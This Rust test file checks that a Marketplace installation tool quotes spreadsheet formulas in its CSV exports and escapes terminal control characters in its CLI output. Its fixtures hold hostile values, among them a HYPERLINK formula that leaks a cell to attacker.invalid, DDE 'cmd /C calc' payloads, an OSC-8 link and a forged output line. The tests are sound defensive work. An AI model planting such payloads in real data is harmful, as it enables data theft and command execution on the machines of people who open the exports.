//! Text from sites and the Marketplace is hostile where it is shown (docs/operations.md#hostile-text):
//! CSV cells a spreadsheet would run as formulas are quoted with `'`, in the admin API's CSV
//! and the CLI's; the CLI's tables and `installations show` print control characters escaped.
//! The hostile values arrive the way an attacker would send them: in a signed `installed`
//! payload and in a Marketplace sync (wiremock).

use serde_json::{Value, json};
use wiremock::matchers::{method, path};
use wiremock::{Mock, MockServer, ResponseTemplate};

use crate::admin::ADMIN;
use crate::helpers::*;

pub const VENDOR: &str = "7654321";

/// The formula of the finding: a spreadsheet that opens the export sends cell A2 away.
pub const FORMULA: &str = "=HYPERLINK(\"http://attacker.invalid/?leak=\"&A2,\"Acme\")";
/// Clears the screen; an OSC-8 hyperlink; a newline that forges a line of output.
const CLEAR: &str = "Acme\x1b[2J Corp";
const OSC8: &str = "\x1b]8;;http://attacker.invalid/\x07click here\x1b]8;;\x07";
const FORGED: &str = "fine\nck-forged  https://evil.invalid  jira  enabled  active";

/// An app with the admin token and Marketplace credentials pointing at `mp`.
pub async fn spawn_with_marketplace(
    backend: Backend,
    mp: &MockServer,
    extra: &[(&str, &str)],
) -> TestApp {
    let uri = mp.uri();
    let mut env = vec![
        ("ADMIN_TOKEN", ADMIN),
        ("MARKETPLACE_URL", uri.as_str()),
        ("MARKETPLACE_VENDOR_ID", VENDOR),
        ("MARKETPLACE_USER", "vendor@example.com"),
        ("MARKETPLACE_API_TOKEN", "mp-token-hostile-text"),
    ];
    env.extend_from_slice(extra);
    TestApp::spawn_with(backend, &env).await
}

/// The Marketplace answers `licenses` (one page) to the reporting API's license list.
pub async fn serve_licenses(mp: &MockServer, licenses: Vec<Value>) {
    mp.reset().await;
    Mock::given(method("GET"))
        .and(path(format!("/rest/2/vendors/{VENDOR}/reporting/licenses")))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({
            "_links": {},
            "licenses": licenses,
        })))
        .mount(mp)
        .await;
}

/// A Marketplace licence joined to an installation by its `entitlementId`.
pub fn license_for(entitlement_id: &str, status: &str, contact: Value) -> Value {
    json!({
        "addonLicenseId": format!("lic-{entitlement_id}"),
        "appEntitlementId": entitlement_id,
        "addonKey": APP_KEY,
        "hosting": "Cloud",
        "lastUpdated": "2025-02-14",
        "licenseType": "COMMERCIAL",
        "status": status,
        "tier": "10 Users",
        "contactDetails": contact,
    })
}

/// `POST /admin/marketplace/sync`; asserts 200.
pub async fn sync(app: &TestApp) -> Value {
    let res = app
        .client
        .post(app.url("/admin/marketplace/sync"))
        .bearer_auth(ADMIN)
        .send()
        .await
        .unwrap();
    let status = res.status();
    let body: Value = res.json().await.unwrap();
    assert_eq!(status, 200, "{body}");
    body
}

/// Installs `client_key` with hostile site fields and syncs a Marketplace licence whose
/// customer fields are hostile too.
async fn hostile_installation(app: &TestApp, mp: &MockServer, client_key: &str) {
    let mut body = installed_payload(client_key, "hostile-secret", &app.product.uri());
    merge(
        &mut body,
        json!({
            "description": format!("\t=cmd|' /C calc'!A0 {CLEAR}"),
            "displayUrl": "@SUM(1+1)*cmd|' /C calc'!A0",
            "serviceEntitlementNumber": "\r-1+1",
            "entitlementId": "ent-hostile",
        }),
    );
    app.install_payload(&body).await;
    serve_licenses(
        mp,
        vec![license_for(
            "ent-hostile",
            "active",
            json!({
                "company": FORMULA,
                "country": "-1+1",
                "region": "-EMEA",
                "technicalContact": {"name": OSC8, "email": "+it@acme.example", "phone": "+1 555 0100"},
                "billingContact": {"name": FORGED, "email": "=1+1@acme.example"},
            }),
        )],
    )
    .await;
    let summary = sync(app).await;
    assert_eq!(summary["matched"], 1, "{summary}");
}

/// Every data cell of a CSV export, with its column name.
fn csv_cells(text: &str) -> Vec<(String, String)> {
    let mut r = csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = r.headers().unwrap().iter().map(str::to_owned).collect();
    let mut out = Vec::new();
    for rec in r.records() {
        for (name, cell) in header.iter().zip(rec.unwrap().iter()) {
            out.push((name.clone(), cell.to_owned()));
        }
    }
    out
}

/// No cell begins with a character that makes a spreadsheet evaluate it, and the hostile
/// values are there, quoted.
fn assert_csv_is_inert(text: &str) {
    let cells = csv_cells(text);
    assert!(!cells.is_empty(), "{text}");
    for (name, cell) in &cells {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "column {name} starts a formula: {cell:?}"
        );
    }
    let get = |n: &str| {
        cells
            .iter()
            .find(|(name, _)| name == n)
            .map(|(_, c)| c.as_str())
            .unwrap_or_else(|| panic!("no column {n}"))
    };
    assert_eq!(get("customer_company"), format!("'{FORMULA}"));
    assert!(get("description").starts_with("'\t=cmd|"), "{text}");
    assert!(get("display_url").starts_with("'@SUM("));
    assert_eq!(get("service_entitlement_number"), "'\r-1+1");
    assert_eq!(get("customer_country"), "'-1+1");
    assert_eq!(get("customer_region"), "'-EMEA");
    assert_eq!(get("technical_contact_email"), "'+it@acme.example");
    assert_eq!(get("technical_contact_phone"), "'+1 555 0100");
    assert_eq!(get("billing_contact_email"), "'=1+1@acme.example");
}

/// Runs the real binary against the app's database.
async fn cli(app: &TestApp, args: &[&str]) -> String {
    let args: Vec<String> = args.iter().map(|s| s.to_string()).collect();
    let url = app.db.url.clone();
    let out = tokio::task::spawn_blocking(move || {
        std::process::Command::new(env!("CARGO_BIN_EXE_connect-keeper"))
            .args(&args)
            .env_clear()
            .env("DATABASE_URL", url)
            .env("RUST_LOG", "warn")
            .output()
            .expect("run the connect-keeper binary")
    })
    .await
    .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).expect("UTF-8 output")
}

both_backends! {
    /// A fixed defect (docs/operations.md#hostile-text): `=HYPERLINK(…)` from the Marketplace and
    /// the site came out verbatim in both CSV exports.
    async fn csv_exports_quote_cells_that_a_spreadsheet_would_run(backend) {
        let mp = MockServer::start().await;
        let app = spawn_with_marketplace(backend, &mp, &[]).await;
        hostile_installation(&app, &mp, "ck-hostile").await;

        let res = app.client.get(app.url("/admin/installations?format=csv")).bearer_auth(ADMIN).send().await.unwrap();
        assert_eq!(res.status(), 200);
        assert_csv_is_inert(&res.text().await.unwrap());

        let out = cli(&app, &["installations", "list", "--format", "csv"]).await;
        assert_csv_is_inert(&out);
        // The JSON keeps the values as they are: quoting is a CSV matter.
        let res = app.client.get(app.url("/admin/installations/ck-hostile")).bearer_auth(ADMIN).send().await.unwrap();
        let d: Value = res.json().await.unwrap();
        assert_eq!(d["customer"]["company"], FORMULA);
    }
}

both_backends! {
    /// A fixed defect (docs/operations.md#hostile-text): ESC sequences, OSC-8 links and newlines
    /// from sites and the Marketplace were printed raw by `installations list` and `installations
    /// show`.
    async fn cli_tables_show_control_characters_escaped(backend) {
        let mp = MockServer::start().await;
        let app = spawn_with_marketplace(backend, &mp, &[]).await;
        hostile_installation(&app, &mp, "ck-hostile").await;
        // The company is what the table shows: make it the screen-clearing one.
        serve_licenses(&mp, vec![license_for("ent-hostile", "active", json!({
            "company": CLEAR,
            "technicalContact": {"name": OSC8, "email": "it@acme.example\n\x1b[31mforged"},
            "billingContact": {"name": FORGED},
        }))]).await;
        sync(&app).await;

        let table = cli(&app, &["installations", "list"]).await;
        let shown = cli(&app, &["installations", "show", "ck-hostile"]).await;
        for out in [&table, &shown] {
            assert!(!out.contains('\x1b') && !out.contains('\x07') && !out.contains('\r'), "{out:?}");
            assert!(!out.lines().any(|l| l.starts_with("ck-forged")), "a forged line: {out}");
            assert!(out.contains("Acme\\x1b[2J Corp"), "{out}");
        }
        assert!(table.contains("it@acme.example\\n\\x1b[31mforged"), "{table}");
        assert_eq!(table.lines().count(), 2, "a header and one row: {table}");
        assert!(shown.contains("\\x1b]8;;http://attacker.invalid/\\x07click here"), "{shown}");
        assert!(shown.contains("fine\\nck-forged"), "{shown}");
        assert!(shown.contains("@SUM(1+1)"), "the display URL is shown: {shown}");
    }
}
